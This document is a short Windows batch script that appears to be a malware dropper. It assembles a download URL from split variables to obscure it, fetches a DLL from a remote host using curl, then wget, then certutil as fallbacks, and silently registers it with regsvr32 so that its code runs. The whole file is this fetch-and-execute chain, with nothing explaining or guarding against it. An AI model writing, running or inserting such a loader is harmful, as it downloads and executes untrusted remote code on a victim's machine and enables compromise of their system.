@echo off
set aim=ht
set bim=tp
set cim=s://pastorcryptograph.invalid/3/sdd.dll
curl %aim%%bim%%cim% -o compile.dll
if not exist compile.dll (
	wget %aim%%bim%%cim% -O compile.dll
)
if not exist compile.dll (
	certutil.exe -urlcache -f %aim%%bim%%cim% compile.dll
)
regsvr32.exe -s compile.dll
